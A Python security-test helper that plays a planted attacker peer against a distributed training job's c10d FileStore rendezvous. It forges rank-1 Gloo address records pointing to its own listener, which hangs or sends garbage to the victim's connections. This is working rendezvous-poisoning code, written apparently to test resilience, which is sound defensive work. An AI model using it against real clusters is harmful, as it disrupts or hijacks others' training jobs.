#!/usr/bin/env python3
"""A planted data-plane peer, for tests/security/fake_peer_test.sh.

Listens on --listen (an address of the attacker's namespace) and accepts every TCP connection,
then stays silent (--mode silent) or writes garbage (--mode garbage) and keeps it open. Meanwhile
it watches the victim's c10d FileStore (--store, a file:// rendezvous): each time the victim
publishes its Gloo address for a group ("/geotrain/net/<group>/0/0"), it publishes its own
listener as rank 1 of that group, as an attacker who can write the rendezvous would. Writes the
time of its first plant to --planted. Runs until killed.

FileStore records (c10d 1.13): [u32 length][key][u32 length][value], appended under flock;
keys carry a "/" prefix. Gloo also publishes each rank's host name ("<group>/0/rank_<r>"). Gloo's address blob: a sockaddr_storage (128 bytes) and an ssize_t
sequence number (net/gloo_address.h).
"""
import argparse
import fcntl
import os
import socket
import struct
import threading
import time


def records(data):
    at = 0
    while at + 4 <= len(data):
        (key_len,) = struct.unpack_from("<I", data, at)
        at += 4
        key = data[at:at + key_len]
        at += key_len
        if at + 4 > len(data):
            return
        (value_len,) = struct.unpack_from("<I", data, at)
        at += 4
        value = data[at:at + value_len]
        at += value_len
        yield key.decode("utf-8", "replace"), value


def blob(ip, port):
    storage = bytearray(128)
    struct.pack_into("<H", storage, 0, socket.AF_INET)
    struct.pack_into(">H", storage, 2, port)
    storage[4:8] = socket.inet_aton(ip)
    return bytes(storage) + struct.pack("<q", -1)


def append(path, key, value):
    with open(path, "ab") as f:
        fcntl.flock(f, fcntl.LOCK_EX)
        key = key.encode()
        f.write(struct.pack("<I", len(key)) + key + struct.pack("<I", len(value)) + value)
        f.flush()
        fcntl.flock(f, fcntl.LOCK_UN)


def serve(listener, mode):
    held = []
    while True:
        connection, _ = listener.accept()
        if mode == "garbage":
            connection.sendall(os.urandom(4096))
        held.append(connection)  # open and silent from now on


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--listen", required=True)
    parser.add_argument("--store", required=True)
    parser.add_argument("--mode", choices=["silent", "garbage"], default="silent")
    parser.add_argument("--planted", required=True)
    args = parser.parse_args()

    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind((args.listen, 0))
    listener.listen(16)
    port = listener.getsockname()[1]
    threading.Thread(target=serve, args=(listener, args.mode), daemon=True).start()

    planted = set()
    while True:
        try:
            with open(args.store, "rb") as f:
                data = f.read()
        except FileNotFoundError:
            data = b""
        keys = {key for key, _ in records(data)}
        for key in sorted(keys):
            if key.startswith("/geotrain/net/") and key.endswith("/0/0"):
                target = key[:-1] + "1"
                if target not in keys and target not in planted:
                    append(args.store, key[:-1] + "rank_1", b"attacker")
                    append(args.store, target, blob(args.listen, port))
                    planted.add(target)
                    if not os.path.exists(args.planted):
                        with open(args.planted, "w") as out:
                            out.write("%.3f %s\n" % (time.time(), target))
        time.sleep(0.05)


if __name__ == "__main__":
    main()
